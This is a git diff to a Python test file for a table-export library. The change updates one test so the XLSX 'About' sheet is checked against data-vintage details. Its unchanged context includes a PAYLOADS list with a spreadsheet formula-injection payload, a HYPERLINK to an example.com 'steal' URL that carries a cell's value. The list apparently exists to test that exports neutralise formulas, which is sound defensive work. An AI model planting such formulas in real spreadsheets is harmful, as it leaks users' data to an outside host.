@@ -21,6 +21,7 @@ from layers.export import (
 )
 from layers.format import COLUMN_LABELS, column_label
 from layers.names import FORMULA_PREFIXES
+from layers.vintages import get_vintage
 
 PAYLOADS = [
     '=HYPERLINK("http://example.com/steal?x="&A1,"Click")',
@@ -117,8 +118,9 @@ def test_csv_opens_with_a_plain_read_csv_and_headers_are_words():
     assert read.iloc[0].tolist() == ["U1", "Café PCN", 1234]
     about = table_about("PCNs of QGH", "2022").decode()
     assert about.splitlines() == ["PCNs of QGH", f"Data: {layers.DATA_VINTAGE}", layers.SOURCES]
-    sheets = pd.read_excel(io.BytesIO(table_xlsx(table, "PCNs", "Vintage X")), sheet_name=None)
-    assert sheets["About"]["About"].tolist() == ["PCNs", "Data: Vintage X", layers.SOURCES]
+    sheets = pd.read_excel(io.BytesIO(table_xlsx(table, "PCNs", "2026")), sheet_name=None)
+    info = get_vintage("2026")
+    assert sheets["About"]["About"].tolist() == ["PCNs", f"Data: {info.data_line}", info.sources]
 
 
 def test_column_labels_are_words():
